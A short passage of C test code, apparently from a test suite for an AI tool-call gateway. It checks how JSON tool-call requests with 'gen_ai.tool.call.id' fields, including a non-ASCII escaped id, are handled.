                        "{\"id\":2,\"v\":1,\"op\":\"tool\",\"gen_ai.tool.name\":\"t\",\"gen_ai.tool.call.id\":\"gw-1\"}\n",
                        2, &caps, "gw-1", 4);
        /* A non-ASCII call id: the events are jansson's (escaped), the reply printed. */
        tool_texts_same("{\"id\":1,\"v\":1,\"op\":\"tool\",\"gen_ai.tool.name\":\"t\","
                        "\"gen_ai.tool.call.id\":\"r-\\u00e9\"}\n",
                        1, NULL, NULL, 0);
}
